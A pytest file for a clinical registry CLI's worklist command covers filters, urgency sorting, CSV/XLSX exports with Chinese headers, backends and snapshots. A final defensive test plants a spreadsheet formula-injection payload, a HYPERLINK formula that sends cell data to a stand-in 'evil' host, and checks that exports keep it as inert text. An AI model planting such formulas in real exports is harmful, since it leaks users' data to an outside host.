"""`bonepath worklist` as nurses and outside tools call it: JSON of interfaces.md, filters,
CSV for Excel, exit codes; and its items of one patient are exactly `evaluate --patient`."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from bonepath.cli.main import app
from bonepath.record.parse import parse_record
from population.support import AS_OF, TODAY, small_registry_data, small_registry_records, stored

runner = CliRunner()
DAY = AS_OF.isoformat()
ITEM_KEYS = ["patient", "source", "hospital", "rule", "kind", "severity", "due", "values"]


def _run(url: str, *args: str) -> Any:
    return runner.invoke(app, list(args), env={"BONEPATH_DATABASE_URL": url})


@pytest.fixture(scope="module")
def sqlite_url(tmp_path_factory: pytest.TempPathFactory) -> str:
    url = f"sqlite:///{tmp_path_factory.mktemp('wl') / 'store.sqlite3'}"
    stored(url, small_registry_records()).close()
    return url


def _items(result: Any) -> list[dict[str, Any]]:
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout)["items"]  # type: ignore[no-any-return]


def test_json_is_the_interface_and_sorted_by_urgency(sqlite_url: str) -> None:
    result = _run(sqlite_url, "worklist", "--as-of", DAY)
    out = json.loads(result.stdout)
    assert result.exit_code == 0, result.output
    assert list(out) == ["as_of", "rules_version", "items"]
    assert out["as_of"] == DAY and out["rules_version"] == "1.1.0"
    # every kind but info: info findings (scores, interval classes, a BTA course at the right
    # dose, rules 1.1) are shown with the patient, never as worklist rows unless asked for
    assert len(out["items"]) == 25
    assert {item["kind"] for item in out["items"]} == {"action", "alert", "data_needed"}
    info = _items(_run(sqlite_url, "worklist", "--as-of", DAY, "--kind", "info"))
    assert len(info) == 13 and {item["kind"] for item in info} == {"info"}
    assert all(list(item) == ITEM_KEYS for item in out["items"])
    adh03 = next(item for item in out["items"] if item["rule"] == "ADH-03")
    assert adh03 == {
        "patient": "P0001",
        "source": "his-a",
        "hospital": "H01",
        "rule": "ADH-03",
        "kind": "action",
        "severity": "high",
        "due": "2026-08-24",
        "values": {"drug": "denosumab", "due": "2026-08-24", "overdue_days": 37},
    }
    # issue 15: overdue first, the longest overdue first (the follow-up bone scan due
    # 2026-06-09), then what is due now, data_needed last (docs/registry.md "Ranking")
    assert (out["items"][0]["rule"], out["items"][0]["due"]) == ("SCR-02", "2026-06-09")
    dues = [item["due"] for item in out["items"] if item["due"] and item["due"] < DAY]
    assert dues == sorted(dues) and out["items"][: len(dues)] == [
        item for item in out["items"] if item["due"] and item["due"] < DAY
    ]
    kinds = [item["kind"] for item in out["items"]]
    assert kinds[kinds.index("data_needed") :] == ["data_needed"] * kinds.count("data_needed")


def test_filters_kind_hospital_and_due_window(sqlite_url: str) -> None:
    alerts = _items(
        _run(sqlite_url, "worklist", "--as-of", DAY, "--kind", "alert", "--hospital", "H02")
    )
    assert [(i["source"], i["patient"], i["rule"]) for i in alerts] == [
        ("his-b", "P0001", "ADH-02"),  # overdue first
        ("his-a", "P0002", "SAFE-05"),  # undated alerts are due now
        ("his-a", "P0002", "SAFE-14"),
    ]
    due = _items(_run(sqlite_url, "worklist", "--as-of", DAY, "--due-within", "0", "--rule", "SCR"))
    assert [(i["patient"], i["rule"], i["due"]) for i in due] == [
        # rules 1.1: the confirmed patients' follow-up (purpose "response"), longest overdue
        # first, then what is due today
        ("P0001", "SCR-02", "2026-06-09"),
        ("P0001", "SCR-02", "2026-06-09"),
        ("P0002", "SCR-02", "2026-07-15"),
        ("P0001", "SCR-03", "2026-08-10"),
        ("P0001", "SCR-03", "2026-08-10"),
        ("P0002", "SCR-03", "2026-09-15"),
        ("P0003", "SCR-01", DAY),
    ]
    surgery = _items(
        _run(sqlite_url, "worklist", "--as-of", DAY, "--department", "thoracic_surgery")
    )
    assert {(i["patient"], i["rule"]) for i in surgery} == {("P0003", "SCR-01"), ("P0003", "TX-02")}


def test_csv_opens_in_excel_with_chinese_headers(sqlite_url: str, tmp_path: Path) -> None:
    out = tmp_path / "worklist.csv"
    result = _run(
        sqlite_url,
        "worklist",
        "--as-of",
        DAY,
        "--format",
        "csv",
        "--rule",
        "ADH-03",
        "--out",
        str(out),
    )
    assert result.exit_code == 0, result.output
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark: Excel reads Chinese
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert table[0][:5] == ["评估日期", "紧急程度", "截止日期", "逾期天数", "患者编号"]
    assert table[1] == [
        DAY,
        "高",
        "2026-08-24",
        "37",
        "P0001",
        "",
        "",
        "his-a",
        "H01",
        "肿瘤科",
        "ADH-03",
        "待办",
        "逾期超过4周：主动随访",
        "地舒单抗 逾期 37 天",
        "药物 地舒单抗；到期日 2026-08-24；逾期 37天",
    ]
    assert len(table) == 3


def test_table_in_english(sqlite_url: str) -> None:
    result = _run(
        sqlite_url,
        "worklist",
        "--as-of",
        DAY,
        "--format",
        "table",
        "--lang",
        "en",
        "--kind",
        "alert",
    )
    assert result.exit_code == 0, result.output
    assert "Worklist · as of 2026-09-30" in result.stdout and "4 items" in result.stdout
    assert "SAFE-05" in result.stdout and "corrected_ca=1.96" in result.stdout


@pytest.mark.parametrize(
    ("args", "code"),
    [
        (["--as-of", "2026-02-30"], "INVALID_DATE"),
        (["--rule", "ADH-99"], "UNKNOWN_RULE"),
        (["--backend", "postgres"], "BACKEND_UNAVAILABLE"),
    ],
)
def test_refused_options_exit_2(sqlite_url: str, args: list[str], code: str) -> None:
    result = _run(sqlite_url, "worklist", *args)
    assert result.exit_code == 2
    (error,) = json.loads(result.stdout)["errors"]
    assert error["code"] == code and error["path"] == args[0]


def test_spark_backend_lists_the_same_items_as_duckdb(sqlite_url: str) -> None:
    """`--backend spark` runs the plan in a local Spark session: the same 25 items, in the
    same order, as the embedded backend (the longest overdue follow-up scan first)."""
    duckdb_items = _items(_run(sqlite_url, "worklist", "--as-of", DAY, "--backend", "duckdb"))
    spark_items = _items(_run(sqlite_url, "worklist", "--as-of", DAY, "--backend", "spark"))
    assert len(spark_items) == 25
    assert spark_items[0]["rule"] == "SCR-02"
    assert spark_items == duckdb_items


def test_physician_selects_that_physicians_patients(tmp_path: Path) -> None:
    """Dr D07 has his-b/P0001 and his-a/P0003: `--physician D07` lists exactly their items
    (as the unfiltered list has them); the JSON items stay those of interfaces.md."""
    data = small_registry_data()
    for record in data:
        if (record["source"], record["id"]) in {("his-b", "P0001"), ("his-a", "P0003")}:
            record["physician"] = {"id": "D07"}
    url = f"sqlite:///{tmp_path / 'physicians.sqlite3'}"
    stored(url, [parse_record(d, today=TODAY) for d in data]).close()
    every = _items(_run(url, "worklist", "--as-of", DAY))
    mine = _items(_run(url, "worklist", "--as-of", DAY, "--physician", "D07"))
    theirs = {("his-b", "P0001"), ("his-a", "P0003")}
    assert mine == [i for i in every if (i["source"], i["patient"]) in theirs]
    assert {(i["source"], i["patient"]) for i in mine} == theirs
    assert all(list(i) == ITEM_KEYS for i in mine)
    assert _items(_run(url, "worklist", "--as-of", DAY, "--physician", "D99")) == []


@pytest.fixture(scope="module")
def snapshot_dir(sqlite_url: str, tmp_path_factory: pytest.TempPathFactory) -> Path:
    directory = tmp_path_factory.mktemp("wl-snap") / "registry"
    result = _run(sqlite_url, "snapshot", "--out", str(directory))
    assert result.exit_code == 0, result.output
    return directory


@pytest.mark.parametrize("backend", ["auto", "spark"])
def test_a_snapshot_lists_the_same_items_as_the_store(
    sqlite_url: str, snapshot_dir: Path, backend: str
) -> None:
    """`--snapshot DIR` evaluates the snapshot (DuckDB, or Spark reading its Parquet files)
    without opening the store: the same items as the store, filters included."""
    args = ["worklist", "--as-of", DAY, "--hospital", "H01"]
    from_store = _items(_run(sqlite_url, *args))
    nowhere = "sqlite:////nonexistent/directory/store.sqlite3"
    from_snapshot = _items(
        _run(nowhere, *args, "--snapshot", str(snapshot_dir), "--backend", backend)
    )
    assert from_snapshot == from_store
    assert len(from_store) > 0 and {item["hospital"] for item in from_store} == {"H01"}


def test_a_snapshot_is_not_evaluated_inside_postgres(snapshot_dir: Path) -> None:
    result = _run("sqlite://", "worklist", "--snapshot", str(snapshot_dir), "--backend", "postgres")
    assert result.exit_code == 2
    (error,) = json.loads(result.stdout)["errors"]
    assert (error["path"], error["code"]) == ("--backend", "BACKEND_UNAVAILABLE")


def test_a_missing_snapshot_fails_with_exit_1(tmp_path: Path) -> None:
    result = _run("sqlite://", "worklist", "--snapshot", str(tmp_path / "none"))
    assert result.exit_code == 1
    assert "no registry snapshot" in result.stderr


def test_items_of_a_patient_are_its_evaluate_findings(db_url: str) -> None:
    """interfaces.md: the worklist items of one patient are exactly `evaluate --patient` on
    the same day (SQLite: DuckDB backend; PostgreSQL: the push-down)."""
    stored(db_url, small_registry_records()).close()
    every_kind = [
        arg
        for kind in ("action", "reminder", "alert", "data_needed", "info")
        for arg in ("--kind", kind)
    ]
    items = _items(_run(db_url, "worklist", "--as-of", DAY, *every_kind))
    for source, patient, expected in [
        ("his-a", "P0001", 11),
        ("his-b", "P0001", 11),
        ("his-a", "P0002", 14),
        ("his-a", "P0003", 2),
        ("his-b", "P0004", 0),
    ]:
        result = _run(db_url, "evaluate", "--patient", patient, "--source", source, "--as-of", DAY)
        assert result.exit_code == 0, result.output
        findings = json.loads(result.stdout)["findings"]
        mine = [i for i in items if (i["source"], i["patient"]) == (source, patient)]
        keys = ("rule", "kind", "severity", "due", "values")
        as_items = sorted(json.dumps({k: i[k] for k in keys}, sort_keys=True) for i in mine)
        as_findings = sorted(json.dumps({k: f[k] for k in keys}, sort_keys=True) for f in findings)
        assert as_items == as_findings, (source, patient)
        assert len(mine) == expected


def test_xlsx_for_nurses_needs_out_and_has_one_row_per_item(
    sqlite_url: str, tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    refused = _run(sqlite_url, "worklist", "--as-of", DAY, "--format", "xlsx")
    assert refused.exit_code == 2
    assert json.loads(refused.stdout)["errors"][0]["code"] == "OUT_REQUIRED"
    out = tmp_path / "worklist.xlsx"
    result = _run(
        sqlite_url,
        "worklist",
        "--as-of",
        DAY,
        "--format",
        "xlsx",
        "--kind",
        "alert",
        "--out",
        str(out),
    )
    assert result.exit_code == 0, result.output
    rows = list(load_workbook(out)["工作清单"].iter_rows(values_only=True))
    assert rows[1][10] == "规则"
    assert [row[10] for row in rows[2:]] == ["ADH-02", "ADH-02", "SAFE-05", "SAFE-14"]


EVIL_ID = '=HYPERLINK("http://evil/?"&A1,"x")'


@pytest.fixture(scope="module")
def hostile_url(tmp_path_factory: pytest.TempPathFactory) -> str:
    """The small registry with P0001 of his-a imported as a formula, its hospital as ``@``."""
    data = small_registry_data()
    data[0]["id"] = EVIL_ID
    data[0]["hospital"]["id"] = "@SUM(1+1)"
    url = f"sqlite:///{tmp_path_factory.mktemp('wl-hostile') / 'store.sqlite3'}"
    stored(url, [parse_record(d, today=TODAY) for d in data]).close()
    return url


def test_csv_and_xlsx_never_carry_a_live_formula(hostile_url: str, tmp_path: Path) -> None:
    """Issue 13 item 3: an id starting with ``=`` or ``@`` is text in both files."""
    from openpyxl import load_workbook

    common = ["worklist", "--as-of", DAY, "--rule", "ADH-03", "--out"]
    csv_out, xlsx_out = tmp_path / "w.csv", tmp_path / "w.xlsx"
    assert _run(hostile_url, *common, str(csv_out), "--format", "csv").exit_code == 0
    assert _run(hostile_url, *common, str(xlsx_out), "--format", "xlsx").exit_code == 0

    table = list(csv.reader(io.StringIO(csv_out.read_text(encoding="utf-8-sig"))))
    assert ["'" + EVIL_ID, "his-a", "'@SUM(1+1)"] in [[r[4], r[7], r[8]] for r in table[1:]]

    sheet = load_workbook(xlsx_out)["工作清单"]
    assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
    rows = list(sheet.iter_rows(min_row=3, values_only=True))
    assert (EVIL_ID, "his-a", "@SUM(1+1)") in [(r[4], r[7], r[8]) for r in rows]
